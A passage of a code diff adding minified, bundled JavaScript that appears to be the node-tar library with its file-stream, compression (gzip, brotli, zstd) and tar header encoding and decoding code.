+        let t = false, e = () => (this.pause(), this.off(_i, e), this.off(S, e), this.off("end", e), t = true, { done: true, value: void 0 }), i = () => {
+          if (t) return e();
+          let r = this.read();
+          return r === null ? e() : { done: false, value: r };
+        };
+        return this.once("end", e), this.once(_i, e), this.once(S, e), { next: i, throw: e, return: e, [Symbol.iterator]() {
+          return this;
+        }, [Symbol.dispose]: () => {
+        } };
+      }
+      destroy(t) {
+        if (this[S]) return t ? this.emit("error", t) : this.emit(S), this;
+        this[S] = true, this[C] = true, this[b].length = 0, this[_] = 0;
+        let e = this;
+        return typeof e.close == "function" && !this[Ne] && e.close(), t ? this.emit("error", t) : this.emit(S), this;
+      }
+      static get isStream() {
+        return Wr;
+      }
+    };
+    Jr = I.writev;
+    ht = Symbol("_autoClose");
+    H = Symbol("_close");
+    te = Symbol("_ended");
+    m = Symbol("_fd");
+    Ni = Symbol("_finished");
+    tt = Symbol("_flags");
+    Ai = Symbol("_flush");
+    ki = Symbol("_handleChunk");
+    vi = Symbol("_makeBuf");
+    ie = Symbol("_mode");
+    ke = Symbol("_needDrain");
+    Ut = Symbol("_onerror");
+    Ht = Symbol("_onopen");
+    Ii = Symbol("_onread");
+    Pt = Symbol("_onwrite");
+    at = Symbol("_open");
+    U = Symbol("_path");
+    ot = Symbol("_pos");
+    Y = Symbol("_queue");
+    zt = Symbol("_read");
+    Ci = Symbol("_readSize");
+    j = Symbol("_reading");
+    ee = Symbol("_remain");
+    Fi = Symbol("_size");
+    ve = Symbol("_write");
+    gt = Symbol("_writing");
+    Me = Symbol("_defaultFlag");
+    bt = Symbol("_errored");
+    _t = class extends A {
+      [bt] = false;
+      [m];
+      [U];
+      [Ci];
+      [j] = false;
+      [Fi];
+      [ee];
+      [ht];
+      constructor(t, e) {
+        if (e = e || {}, super(e), this.readable = true, this.writable = false, typeof t != "string") throw new TypeError("path must be a string");
+        this[bt] = false, this[m] = typeof e.fd == "number" ? e.fd : void 0, this[U] = t, this[Ci] = e.readSize || 16 * 1024 * 1024, this[j] = false, this[Fi] = typeof e.size == "number" ? e.size : 1 / 0, this[ee] = this[Fi], this[ht] = typeof e.autoClose == "boolean" ? e.autoClose : true, typeof this[m] == "number" ? this[zt]() : this[at]();
+      }
+      get fd() {
+        return this[m];
+      }
+      get path() {
+        return this[U];
+      }
+      write() {
+        throw new TypeError("this is a readable stream");
+      }
+      end() {
+        throw new TypeError("this is a readable stream");
+      }
+      [at]() {
+        I.open(this[U], "r", (t, e) => this[Ht](t, e));
+      }
+      [Ht](t, e) {
+        t ? this[Ut](t) : (this[m] = e, this.emit("open", e), this[zt]());
+      }
+      [vi]() {
+        return Buffer.allocUnsafe(Math.min(this[Ci], this[ee]));
+      }
+      [zt]() {
+        if (!this[j]) {
+          this[j] = true;
+          let t = this[vi]();
+          if (t.length === 0) return process.nextTick(() => this[Ii](null, 0, t));
+          I.read(this[m], t, 0, t.length, null, (e, i, r) => this[Ii](e, i, r));
+        }
+      }
+      [Ii](t, e, i) {
+        this[j] = false, t ? this[Ut](t) : this[ki](e, i) && this[zt]();
+      }
+      [H]() {
+        if (this[ht] && typeof this[m] == "number") {
+          let t = this[m];
+          this[m] = void 0, I.close(t, (e) => e ? this.emit("error", e) : this.emit("close"));
+        }
+      }
+      [Ut](t) {
+        this[j] = true, this[H](), this.emit("error", t);
+      }
+      [ki](t, e) {
+        let i = false;
+        return this[ee] -= t, t > 0 && (i = super.write(t < e.length ? e.subarray(0, t) : e)), (t === 0 || this[ee] <= 0) && (i = false, this[H](), super.end()), i;
+      }
+      emit(t, ...e) {
+        switch (t) {
+          case "prefinish":
+          case "finish":
+            return false;
+          case "drain":
+            return typeof this[m] == "number" && this[zt](), false;
+          case "error":
+            return this[bt] ? false : (this[bt] = true, super.emit(t, ...e));
+          default:
+            return super.emit(t, ...e);
+        }
+      }
+    };
+    Be = class extends _t {
+      [at]() {
+        let t = true;
+        try {
+          this[Ht](null, I.openSync(this[U], "r")), t = false;
+        } finally {
+          t && this[H]();
+        }
+      }
+      [zt]() {
+        let t = true;
+        try {
+          if (!this[j]) {
+            this[j] = true;
+            do {
+              let e = this[vi](), i = e.length === 0 ? 0 : I.readSync(this[m], e, 0, e.length, null);
+              if (!this[ki](i, e)) break;
+            } while (true);
+            this[j] = false;
+          }
+          t = false;
+        } finally {
+          t && this[H]();
+        }
+      }
+      [H]() {
+        if (this[ht] && typeof this[m] == "number") {
+          let t = this[m];
+          this[m] = void 0, I.closeSync(t), this.emit("close");
+        }
+      }
+    };
+    et = class extends Qr {
+      readable = false;
+      writable = true;
+      [bt] = false;
+      [gt] = false;
+      [te] = false;
+      [Y] = [];
+      [ke] = false;
+      [U];
+      [ie];
+      [ht];
+      [m];
+      [Me];
+      [tt];
+      [Ni] = false;
+      [ot];
+      constructor(t, e) {
+        e = e || {}, super(e), this[U] = t, this[m] = typeof e.fd == "number" ? e.fd : void 0, this[ie] = e.mode === void 0 ? 438 : e.mode, this[ot] = typeof e.start == "number" ? e.start : void 0, this[ht] = typeof e.autoClose == "boolean" ? e.autoClose : true;
+        let i = this[ot] !== void 0 ? "r+" : "w";
+        this[Me] = e.flags === void 0, this[tt] = e.flags === void 0 ? i : e.flags, this[m] === void 0 && this[at]();
+      }
+      emit(t, ...e) {
+        if (t === "error") {
+          if (this[bt]) return false;
+          this[bt] = true;
+        }
+        return super.emit(t, ...e);
+      }
+      get fd() {
+        return this[m];
+      }
+      get path() {
+        return this[U];
+      }
+      [Ut](t) {
+        this[H](), this[gt] = true, this.emit("error", t);
+      }
+      [at]() {
+        I.open(this[U], this[tt], this[ie], (t, e) => this[Ht](t, e));
+      }
+      [Ht](t, e) {
+        this[Me] && this[tt] === "r+" && t && t.code === "ENOENT" ? (this[tt] = "w", this[at]()) : t ? this[Ut](t) : (this[m] = e, this.emit("open", e), this[gt] || this[Ai]());
+      }
+      end(t, e) {
+        return t && this.write(t, e), this[te] = true, !this[gt] && !this[Y].length && typeof this[m] == "number" && this[Pt](null, 0), this;
+      }
+      write(t, e) {
+        return typeof t == "string" && (t = Buffer.from(t, e)), this[te] ? (this.emit("error", new Error("write() after end()")), false) : this[m] === void 0 || this[gt] || this[Y].length ? (this[Y].push(t), this[ke] = true, false) : (this[gt] = true, this[ve](t), true);
+      }
+      [ve](t) {
+        I.write(this[m], t, 0, t.length, this[ot], (e, i) => this[Pt](e, i));
+      }
+      [Pt](t, e) {
+        t ? this[Ut](t) : (this[ot] !== void 0 && typeof e == "number" && (this[ot] += e), this[Y].length ? this[Ai]() : (this[gt] = false, this[te] && !this[Ni] ? (this[Ni] = true, this[H](), this.emit("finish")) : this[ke] && (this[ke] = false, this.emit("drain"))));
+      }
+      [Ai]() {
+        if (this[Y].length === 0) this[te] && this[Pt](null, 0);
+        else if (this[Y].length === 1) this[ve](this[Y].pop());
+        else {
+          let t = this[Y];
+          this[Y] = [], Jr(this[m], t, this[ot], (e, i) => this[Pt](e, i));
+        }
+      }
+      [H]() {
+        if (this[ht] && typeof this[m] == "number") {
+          let t = this[m];
+          this[m] = void 0, I.close(t, (e) => e ? this.emit("error", e) : this.emit("close"));
+        }
+      }
+    };
+    Wt = class extends et {
+      [at]() {
+        let t;
+        if (this[Me] && this[tt] === "r+") try {
+          t = I.openSync(this[U], this[tt], this[ie]);
+        } catch (e) {
+          if (e?.code === "ENOENT") return this[tt] = "w", this[at]();
+          throw e;
+        }
+        else t = I.openSync(this[U], this[tt], this[ie]);
+        this[Ht](null, t);
+      }
+      [H]() {
+        if (this[ht] && typeof this[m] == "number") {
+          let t = this[m];
+          this[m] = void 0, I.closeSync(t), this.emit("close");
+        }
+      }
+      [ve](t) {
+        let e = true;
+        try {
+          this[Pt](null, I.writeSync(this[m], t, 0, t.length, this[ot])), e = false;
+        } finally {
+          if (e) try {
+            this[H]();
+          } catch {
+          }
+        }
+      }
+    };
+    jr = /* @__PURE__ */ new Map([["C", "cwd"], ["f", "file"], ["z", "gzip"], ["P", "preservePaths"], ["U", "unlink"], ["strip-components", "strip"], ["stripComponents", "strip"], ["keep-newer", "newer"], ["keepNewer", "newer"], ["keep-newer-files", "newer"], ["keepNewerFiles", "newer"], ["k", "keep"], ["keep-existing", "keep"], ["keepExisting", "keep"], ["m", "noMtime"], ["no-mtime", "noMtime"], ["p", "preserveOwner"], ["L", "follow"], ["h", "follow"], ["onentry", "onReadEntry"]]);
+    Fs = (s3) => !!s3.sync && !!s3.file;
+    ks = (s3) => !s3.sync && !!s3.file;
+    vs = (s3) => !!s3.sync && !s3.file;
+    Ms = (s3) => !s3.sync && !s3.file;
+    Bs = (s3) => !!s3.file;
+    tn = (s3) => {
+      let t = jr.get(s3);
+      return t || s3;
+    };
+    se = (s3 = {}) => {
+      if (!s3) return {};
+      let t = {};
+      for (let [e, i] of Object.entries(s3)) {
+        let r = tn(e);
+        t[r] = i;
+      }
+      return t.chmod === void 0 && t.noChmod === false && (t.chmod = true), delete t.noChmod, t;
+    };
+    K = (s3, t, e, i, r) => Object.assign((n = [], o, h) => {
+      Array.isArray(n) && (o = n, n = {}), typeof o == "function" && (h = o, o = void 0), o = o ? Array.from(o) : [];
+      let a = se(n);
+      if (r?.(a, o), Fs(a)) {
+        if (typeof h == "function") throw new TypeError("callback not supported for sync tar functions");
+        return s3(a, o);
+      } else if (ks(a)) {
+        let l = t(a, o);
+        return h ? l.then(() => h(), h) : l;
+      } else if (vs(a)) {
+        if (typeof h == "function") throw new TypeError("callback not supported for sync tar functions");
+        return e(a, o);
+      } else if (Ms(a)) {
+        if (typeof h == "function") throw new TypeError("callback only supported with file option");
+        return i(a, o);
+      }
+      throw new Error("impossible options??");
+    }, { syncFile: s3, asyncFile: t, syncNoFile: e, asyncNoFile: i, validate: r });
+    sn = en.constants || { ZLIB_VERNUM: 4736 };
+    M = Object.freeze(Object.assign(/* @__PURE__ */ Object.create(null), { Z_NO_FLUSH: 0, Z_PARTIAL_FLUSH: 1, Z_SYNC_FLUSH: 2, Z_FULL_FLUSH: 3, Z_FINISH: 4, Z_BLOCK: 5, Z_OK: 0, Z_STREAM_END: 1, Z_NEED_DICT: 2, Z_ERRNO: -1, Z_STREAM_ERROR: -2, Z_DATA_ERROR: -3, Z_MEM_ERROR: -4, Z_BUF_ERROR: -5, Z_VERSION_ERROR: -6, Z_NO_COMPRESSION: 0, Z_BEST_SPEED: 1, Z_BEST_COMPRESSION: 9, Z_DEFAULT_COMPRESSION: -1, Z_FILTERED: 1, Z_HUFFMAN_ONLY: 2, Z_RLE: 3, Z_FIXED: 4, Z_DEFAULT_STRATEGY: 0, DEFLATE: 1, INFLATE: 2, GZIP: 3, GUNZIP: 4, DEFLATERAW: 5, INFLATERAW: 6, UNZIP: 7, BROTLI_DECODE: 8, BROTLI_ENCODE: 9, Z_MIN_WINDOWBITS: 8, Z_MAX_WINDOWBITS: 15, Z_DEFAULT_WINDOWBITS: 15, Z_MIN_CHUNK: 64, Z_MAX_CHUNK: 1 / 0, Z_DEFAULT_CHUNK: 16384, Z_MIN_MEMLEVEL: 1, Z_MAX_MEMLEVEL: 9, Z_DEFAULT_MEMLEVEL: 8, Z_MIN_LEVEL: -1, Z_MAX_LEVEL: 9, Z_DEFAULT_LEVEL: -1, BROTLI_OPERATION_PROCESS: 0, BROTLI_OPERATION_FLUSH: 1, BROTLI_OPERATION_FINISH: 2, BROTLI_OPERATION_EMIT_METADATA: 3, BROTLI_MODE_GENERIC: 0, BROTLI_MODE_TEXT: 1, BROTLI_MODE_FONT: 2, BROTLI_DEFAULT_MODE: 0, BROTLI_MIN_QUALITY: 0, BROTLI_MAX_QUALITY: 11, BROTLI_DEFAULT_QUALITY: 11, BROTLI_MIN_WINDOW_BITS: 10, BROTLI_MAX_WINDOW_BITS: 24, BROTLI_LARGE_MAX_WINDOW_BITS: 30, BROTLI_DEFAULT_WINDOW: 22, BROTLI_MIN_INPUT_BLOCK_BITS: 16, BROTLI_MAX_INPUT_BLOCK_BITS: 24, BROTLI_PARAM_MODE: 0, BROTLI_PARAM_QUALITY: 1, BROTLI_PARAM_LGWIN: 2, BROTLI_PARAM_LGBLOCK: 3, BROTLI_PARAM_DISABLE_LITERAL_CONTEXT_MODELING: 4, BROTLI_PARAM_SIZE_HINT: 5, BROTLI_PARAM_LARGE_WINDOW: 6, BROTLI_PARAM_NPOSTFIX: 7, BROTLI_PARAM_NDIRECT: 8, BROTLI_DECODER_RESULT_ERROR: 0, BROTLI_DECODER_RESULT_SUCCESS: 1, BROTLI_DECODER_RESULT_NEEDS_MORE_INPUT: 2, BROTLI_DECODER_RESULT_NEEDS_MORE_OUTPUT: 3, BROTLI_DECODER_PARAM_DISABLE_RING_BUFFER_REALLOCATION: 0, BROTLI_DECODER_PARAM_LARGE_WINDOW: 1, BROTLI_DECODER_NO_ERROR: 0, BROTLI_DECODER_SUCCESS: 1, BROTLI_DECODER_NEEDS_MORE_INPUT: 2, BROTLI_DECODER_NEEDS_MORE_OUTPUT: 3, BROTLI_DECODER_ERROR_FORMAT_EXUBERANT_NIBBLE: -1, BROTLI_DECODER_ERROR_FORMAT_RESERVED: -2, BROTLI_DECODER_ERROR_FORMAT_EXUBERANT_META_NIBBLE: -3, BROTLI_DECODER_ERROR_FORMAT_SIMPLE_HUFFMAN_ALPHABET: -4, BROTLI_DECODER_ERROR_FORMAT_SIMPLE_HUFFMAN_SAME: -5, BROTLI_DECODER_ERROR_FORMAT_CL_SPACE: -6, BROTLI_DECODER_ERROR_FORMAT_HUFFMAN_SPACE: -7, BROTLI_DECODER_ERROR_FORMAT_CONTEXT_MAP_REPEAT: -8, BROTLI_DECODER_ERROR_FORMAT_BLOCK_LENGTH_1: -9, BROTLI_DECODER_ERROR_FORMAT_BLOCK_LENGTH_2: -10, BROTLI_DECODER_ERROR_FORMAT_TRANSFORM: -11, BROTLI_DECODER_ERROR_FORMAT_DICTIONARY: -12, BROTLI_DECODER_ERROR_FORMAT_WINDOW_BITS: -13, BROTLI_DECODER_ERROR_FORMAT_PADDING_1: -14, BROTLI_DECODER_ERROR_FORMAT_PADDING_2: -15, BROTLI_DECODER_ERROR_FORMAT_DISTANCE: -16, BROTLI_DECODER_ERROR_DICTIONARY_NOT_SET: -19, BROTLI_DECODER_ERROR_INVALID_ARGUMENTS: -20, BROTLI_DECODER_ERROR_ALLOC_CONTEXT_MODES: -21, BROTLI_DECODER_ERROR_ALLOC_TREE_GROUPS: -22, BROTLI_DECODER_ERROR_ALLOC_CONTEXT_MAP: -25, BROTLI_DECODER_ERROR_ALLOC_RING_BUFFER_1: -26, BROTLI_DECODER_ERROR_ALLOC_RING_BUFFER_2: -27, BROTLI_DECODER_ERROR_ALLOC_BLOCK_TYPE_TREES: -30, BROTLI_DECODER_ERROR_UNREACHABLE: -31 }, sn));
+    rn = Ot.concat;
+    zs = Object.getOwnPropertyDescriptor(Ot, "concat");
+    nn = (s3) => s3;
+    Bi = zs?.writable === true || zs?.set !== void 0 ? (s3) => {
+      Ot.concat = s3 ? nn : rn;
+    } : (s3) => {
+    };
+    Tt = Symbol("_superWrite");
+    Gt = class extends Error {
+      code;
+      errno;
+      constructor(t, e) {
+        super("zlib: " + t.message, { cause: t }), this.code = t.code, this.errno = t.errno, this.code || (this.code = "ZLIB_ERROR"), this.message = "zlib: " + t.message, Error.captureStackTrace(this, e ?? this.constructor);
+      }
+      get name() {
+        return "ZlibError";
+      }
+    };
+    Pi = Symbol("flushFlag");
+    re = class extends A {
+      #t = false;
+      #i = false;
+      #s;
+      #n;
+      #r;
+      #e;
+      #o;
+      get sawError() {
+        return this.#t;
+      }
+      get handle() {
+        return this.#e;
+      }
+      get flushFlag() {
+        return this.#s;
+      }
+      constructor(t, e) {
+        if (!t || typeof t != "object") throw new TypeError("invalid options for ZlibBase constructor");
+        if (super(t), this.#s = t.flush ?? 0, this.#n = t.finishFlush ?? 0, this.#r = t.fullFlushFlag ?? 0, typeof Ps[e] != "function") throw new TypeError("Compression method not supported: " + e);
+        try {
+          this.#e = new Ps[e](t);
+        } catch (i) {
+          throw new Gt(i, this.constructor);
+        }
+        this.#o = (i) => {
+          this.#t || (this.#t = true, this.close(), this.emit("error", i));
+        }, this.#e?.on("error", (i) => this.#o(new Gt(i))), this.once("end", () => this.close);
+      }
+      close() {
+        this.#e && (this.#e.close(), this.#e = void 0, this.emit("close"));
+      }
+      reset() {
+        if (!this.#t) return zi(this.#e, "zlib binding closed"), this.#e.reset?.();
+      }
+      flush(t) {
+        this.ended || (typeof t != "number" && (t = this.#r), this.write(Object.assign(Ot.alloc(0), { [Pi]: t })));
+      }
+      end(t, e, i) {
+        return typeof t == "function" && (i = t, e = void 0, t = void 0), typeof e == "function" && (i = e, e = void 0), t && (e ? this.write(t, e) : this.write(t)), this.flush(this.#n), this.#i = true, super.end(i);
+      }
+      get ended() {
+        return this.#i;
+      }
+      [Tt](t) {
+        return super.write(t);
+      }
+      write(t, e, i) {
+        if (typeof e == "function" && (i = e, e = "utf8"), typeof t == "string" && (t = Ot.from(t, e)), this.#t) return;
+        zi(this.#e, "zlib binding closed");
+        let r = this.#e._handle, n = r.close;
+        r.close = () => {
+        };
+        let o = this.#e.close;
+        this.#e.close = () => {
+        }, Bi(true);
+        let h;
+        try {
+          let l = typeof t[Pi] == "number" ? t[Pi] : this.#s;
+          h = this.#e._processChunk(t, l), Bi(false);
+        } catch (l) {
+          Bi(false), this.#o(new Gt(l, this.write));
+        } finally {
+          this.#e && (this.#e._handle = r, r.close = n, this.#e.close = o, this.#e.removeAllListeners("error"));
+        }
+        this.#e && this.#e.on("error", (l) => this.#o(new Gt(l, this.write)));
+        let a;
+        if (h) if (Array.isArray(h) && h.length > 0) {
+          let l = h[0];
+          a = this[Tt](Ot.from(l));
+          for (let c = 1; c < h.length; c++) a = this[Tt](h[c]);
+        } else a = this[Tt](Ot.from(h));
+        return i && i(), a;
+      }
+    };
+    Pe = class extends re {
+      #t;
+      #i;
+      constructor(t, e) {
+        t = t || {}, t.flush = t.flush || M.Z_NO_FLUSH, t.finishFlush = t.finishFlush || M.Z_FINISH, t.fullFlushFlag = M.Z_FULL_FLUSH, super(t, e), this.#t = t.level, this.#i = t.strategy;
+      }
+      params(t, e) {
+        if (!this.sawError) {
+          if (!this.handle) throw new Error("cannot switch params when binding is closed");
+          if (!this.handle.params) throw new Error("not supported in this implementation");
+          if (this.#t !== t || this.#i !== e) {
+            this.flush(M.Z_SYNC_FLUSH), zi(this.handle, "zlib binding closed");
+            let i = this.handle.flush;
+            this.handle.flush = (r, n) => {
+              typeof r == "function" && (n = r, r = this.flushFlag), this.flush(r), n?.();
+            };
+            try {
+              this.handle.params(t, e);
+            } finally {
+              this.handle.flush = i;
+            }
+            this.handle && (this.#t = t, this.#i = e);
+          }
+        }
+      }
+    };
+    ze = class extends Pe {
+      #t;
+      constructor(t) {
+        super(t, "Gzip"), this.#t = t && !!t.portable;
+      }
+      [Tt](t) {
+        return this.#t ? (this.#t = false, t[9] = 255, super[Tt](t)) : super[Tt](t);
+      }
+    };
+    Ue = class extends Pe {
+      constructor(t) {
+        super(t, "Unzip");
+      }
+    };
+    He = class extends re {
+      constructor(t, e) {
+        t = t || {}, t.flush = t.flush || M.BROTLI_OPERATION_PROCESS, t.finishFlush = t.finishFlush || M.BROTLI_OPERATION_FINISH, t.fullFlushFlag = M.BROTLI_OPERATION_FLUSH, super(t, e);
+      }
+    };
+    We = class extends He {
+      constructor(t) {
+        super(t, "BrotliCompress");
+      }
+    };
+    Ge = class extends He {
+      constructor(t) {
+        super(t, "BrotliDecompress");
+      }
+    };
+    Ze = class extends re {
+      constructor(t, e) {
+        t = t || {}, t.flush = t.flush || M.ZSTD_e_continue, t.finishFlush = t.finishFlush || M.ZSTD_e_end, t.fullFlushFlag = M.ZSTD_e_flush, super(t, e);
+      }
+    };
+    Ye = class extends Ze {
+      constructor(t) {
+        super(t, "ZstdCompress");
+      }
+    };
+    Ke = class extends Ze {
+      constructor(t) {
+        super(t, "ZstdDecompress");
+      }
+    };
+    Us = (s3, t) => {
+      if (Number.isSafeInteger(s3)) s3 < 0 ? an(s3, t) : hn(s3, t);
+      else throw Error("cannot encode number outside of javascript safe integer range");
+      return t;
+    };
+    hn = (s3, t) => {
+      t[0] = 128;
+      for (var e = t.length; e > 1; e--) t[e - 1] = s3 & 255, s3 = Math.floor(s3 / 256);
+    };
+    an = (s3, t) => {
+      t[0] = 255;
+      var e = false;
+      s3 = s3 * -1;
+      for (var i = t.length; i > 1; i--) {
+        var r = s3 & 255;
+        s3 = Math.floor(s3 / 256), e ? t[i - 1] = Ws(r) : r === 0 ? t[i - 1] = 0 : (e = true, t[i - 1] = Gs(r));
+      }
+    };
+    Hs = (s3) => {
+      let t = s3[0], e = t === 128 ? cn(s3.subarray(1, s3.length)) : t === 255 ? ln(s3) : null;
+      if (e === null) throw Error("invalid base256 encoding");
+      if (!Number.isSafeInteger(e)) throw Error("parsed number outside of javascript safe integer range");
+      return e;
+    };
+    ln = (s3) => {
+      for (var t = s3.length, e = 0, i = false, r = t - 1; r > -1; r--) {
+        var n = Number(s3[r]), o;
+        i ? o = Ws(n) : n === 0 ? o = n : (i = true, o = Gs(n)), o !== 0 && (e -= o * Math.pow(256, t - r - 1));
+      }
+      return e;
+    };
+    cn = (s3) => {
+      for (var t = s3.length, e = 0, i = t - 1; i > -1; i--) {
+        var r = Number(s3[i]);
+        r !== 0 && (e += r * Math.pow(256, t - i - 1));
+      }
+      return e;
+    };
+    Ws = (s3) => (255 ^ s3) & 255;
+    Gs = (s3) => (255 ^ s3) + 1 & 255;
+    Hi = {};
+    Ur(Hi, { code: () => Ve, isCode: () => ne, isName: () => dn, name: () => oe, normalFsTypes: () => Ui });
+    ne = (s3) => oe.has(s3);
+    dn = (s3) => Ve.has(s3);
+    Ui = /* @__PURE__ */ new Set(["0", "", "1", "2", "3", "4", "5", "6", "7", "D"]);
+    oe = /* @__PURE__ */ new Map([["0", "File"], ["", "OldFile"], ["1", "Link"], ["2", "SymbolicLink"], ["3", "CharacterDevice"], ["4", "BlockDevice"], ["5", "Directory"], ["6", "FIFO"], ["7", "ContiguousFile"], ["g", "GlobalExtendedHeader"], ["x", "ExtendedHeader"], ["A", "SolarisACL"], ["D", "GNUDumpDir"], ["I", "Inode"], ["K", "NextFileHasLongLinkpath"], ["L", "NextFileHasLongPath"], ["M", "ContinuationFile"], ["N", "OldGnuLongPath"], ["S", "SparseFile"], ["V", "TapeVolumeHeader"], ["X", "OldExtendedHeader"]]);
+    Ve = new Map(Array.from(oe).map((s3) => [s3[1], s3[0]]));
+    un = (s3) => s3 === void 0 || s3 < 0 ? void 0 : s3;
+    F = class {
+      cksumValid = false;
+      needPax = false;
+      nullBlock = false;
+      block;
+      path;
+      mode;
+      uid;
+      gid;
+      size;
+      cksum;
+      #t = "Unsupported";
+      linkpath;
+      uname;
+      gname;
+      devmaj = 0;
+      devmin = 0;
+      atime;
+      ctime;
+      mtime;
+      charset;
+      comment;
+      constructor(t, e = 0, i, r) {
+        Buffer.isBuffer(t) ? this.decode(t, e || 0, i, r) : t && this.#i(t);
+      }
+      decode(t, e, i, r) {
+        if (e || (e = 0), !t || !(t.length >= e + 512)) throw new Error("need 512 bytes for header");
+        let n = xt(t, e + 156, 1), o = Ui.has(n), h = o ? i : void 0, a = o ? r : void 0;
+        if (this.path = h?.path ?? xt(t, e, 100), this.mode = h?.mode ?? a?.mode ?? lt(t, e + 100, 8), this.uid = h?.uid ?? a?.uid ?? lt(t, e + 108, 8), this.gid = h?.gid ?? a?.gid ?? lt(t, e + 116, 8), this.size = un(h?.size ?? a?.size ?? lt(t, e + 124, 12)), this.mtime = h?.mtime ?? a?.mtime ?? Wi(t, e + 136, 12), this.cksum = lt(t, e + 148, 12), a && this.#i(a, true), h && this.#i(h), ne(n) && (this.#t = n || "0"), this.#t === "0" && this.path.slice(-1) === "/" && (this.#t = "5"), this.#t === "5" && (this.size = 0), this.linkpath = xt(t, e + 157, 100), t.subarray(e + 257, e + 265).toString() === "ustar\x0000") if (this.uname = h?.uname ?? a?.uname ?? xt(t, e + 265, 32), this.gname = h?.gname ?? a?.gname ?? xt(t, e + 297, 32), this.devmaj = h?.devmaj ?? a?.devmaj ?? lt(t, e + 329, 8) ?? 0, this.devmin = h?.devmin ?? a?.devmin ?? lt(t, e + 337, 8) ?? 0, t[e + 475] !== 0) {
+          let c = xt(t, e + 345, 155);
+          this.path = c + "/" + this.path;
+        } else {
+          let c = xt(t, e + 345, 130);
+          c && (this.path = c + "/" + this.path), this.atime = i?.atime ?? r?.atime ?? Wi(t, e + 476, 12), this.ctime = i?.ctime ?? r?.ctime ?? Wi(t, e + 488, 12);
+        }
+        let l = 256;
+        for (let c = e; c < e + 148; c++) l += t[c];
+        for (let c = e + 156; c < e + 512; c++) l += t[c];
+        this.cksumValid = l === this.cksum, this.cksum === void 0 && l === 256 && (this.nullBlock = true);
+      }
+      #i(t, e = false) {
+        Object.assign(this, Object.fromEntries(Object.entries(t).filter(([i, r]) => !(r == null || i === "size" && Number(r) < 0 || i === "path" && e || i === "linkpath" && e || i === "global"))));
+      }
+      encode(t, e = 0) {
+        if (t || (t = this.block = Buffer.alloc(512)), this.#t === "Unsupported" && (this.#t = "0"), !(t.length >= e + 512)) throw new Error("need 512 bytes for header");
+        let i = this.ctime || this.atime ? 130 : 155, r = mn(this.path || "", i), n = r[0], o = r[1];
+        this.needPax = !!r[2], this.needPax = Lt(t, e, 100, n) || this.needPax, this.needPax = ct(t, e + 100, 8, this.mode) || this.needPax, this.needPax = ct(t, e + 108, 8, this.uid) || this.needPax, this.needPax = ct(t, e + 116, 8, this.gid) || this.needPax, this.needPax = ct(t, e + 124, 12, this.size) || this.needPax, this.needPax = Gi(t, e + 136, 12, this.mtime) || this.needPax, t[e + 156] = Number(this.#t.codePointAt(0)), this.needPax = Lt(t, e + 157, 100, this.linkpath) || this.needPax, t.write("ustar\x0000", e + 257, 8), this.needPax = Lt(t, e + 265, 32, this.uname) || this.needPax, this.needPax = Lt(t, e + 297, 32, this.gname) || this.needPax, this.needPax = ct(t, e + 329, 8, this.devmaj) || this.needPax, this.needPax = ct(t, e + 337, 8, this.devmin) || this.needPax, this.needPax = Lt(t, e + 345, i, o) || this.needPax, t[e + 475] !== 0 ? this.needPax = Lt(t, e + 345, 155, o) || this.needPax : (this.needPax = Lt(t, e + 345, 130, o) || this.needPax, this.needPax = Gi(t, e + 476, 12, this.atime) || this.needPax, this.needPax = Gi(t, e + 488, 12, this.ctime) || this.needPax);
+        let h = 256;
+        for (let a = e; a < e + 148; a++) h += t[a];
+        for (let a = e + 156; a < e + 512; a++) h += t[a];
+        return this.cksum = h, ct(t, e + 148, 8, this.cksum), this.cksumValid = true, this.needPax;
+      }
+      get type() {
+        return this.#t === "Unsupported" ? this.#t : oe.get(this.#t);
+      }
+      get typeKey() {
+        return this.#t;
+      }
+      set type(t) {
+        let e = String(Ve.get(t));
+        if (ne(e) || e === "Unsupported") this.#t = e;
+        else if (ne(t)) this.#t = t;
+        else throw new TypeError("invalid entry type: " + t);
+      }
+    };
+    mn = (s3, t) => {
+      let i = s3, r = "", n, o = Zt.parse(s3).root || ".";
+      if (Buffer.byteLength(i) < 100) n = [i, r, false];
+      else {
+        r = Zt.dirname(i), i = Zt.basename(i);
+        do
+          Buffer.byteLength(i) <= 100 && Buffer.byteLength(r) <= t ? n = [i, r, false] : Buffer.byteLength(i) > 100 && Buffer.byteLength(r) <= t ? n = [i.slice(0, 99), r, true] : (i = Zt.join(Zt.basename(r), i), r = Zt.dirname(r));
+        while (r !== o && n === void 0);
+        n || (n = [s3.slice(0, 99), "", true]);
+      }
+      return n;
+    };
+    xt = (s3, t, e) => s3.subarray(t, t + e).toString("utf8").replace(/\0.*/, "");
+    Wi = (s3, t, e) => pn(lt(s3, t, e));
+    pn = (s3) => s3 === void 0 ? void 0 : new Date(s3 * 1e3);
+    lt = (s3, t, e) => Number(s3[t]) & 128 ? Hs(s3.subarray(t, t + e)) : wn(s3, t, e);
+    En = (s3) => isNaN(s3) ? void 0 : s3;
+    wn = (s3, t, e) => En(parseInt(s3.subarray(t, t + e).toString("utf8").replace(/\0.*$/, "").trim(), 8));
+    Sn = { 12: 8589934591, 8: 2097151 };
+    ct = (s3, t, e, i) => i === void 0 ? false : i > Sn[e] || i < 0 ? (Us(i, s3.subarray(t, t + e)), true) : (yn(s3, t, e, i), false);
+    yn = (s3, t, e, i) => s3.write(Rn(i, e), t, e, "ascii");
+    Rn = (s3, t) => gn(Math.floor(s3).toString(8), t);
+    gn = (s3, t) => (s3.length === t - 1 ? s3 : new Array(t - s3.length - 1).join("0") + s3 + " ") + "\0";
+    Gi = (s3, t, e, i) => i === void 0 ? false : ct(s3, t, e, i.getTime() / 1e3);
+    bn = new Array(156).join("\0");
+    Lt = (s3, t, e, i) => i === void 0 ? false : (s3.write(i + bn, t, e, "utf8"), i.length !== Buffer.byteLength(i) || i.length > e);
+    ft = class s {
+      atime;
+      mtime;
+      ctime;
+      charset;
+      comment;
+      gid;
+      uid;
+      gname;
+      uname;
+      linkpath;
+      dev;
+      ino;
+      nlink;
+      path;
+      size;
+      mode;
+      global;
+      constructor(t, e = false) {
+        this.atime = t.atime, this.charset = t.charset, this.comment = t.comment, this.ctime = t.ctime, this.dev = t.dev, this.gid = t.gid, this.global = e, this.gname = t.gname, this.ino = t.ino, this.linkpath = t.linkpath, this.mtime = t.mtime, this.nlink = t.nlink, this.path = t.path, this.size = t.size, this.uid = t.uid, this.uname = t.uname;
+      }
+      encode() {
+        let t = this.encodeBody();
+        if (t === "") return Buffer.allocUnsafe(0);
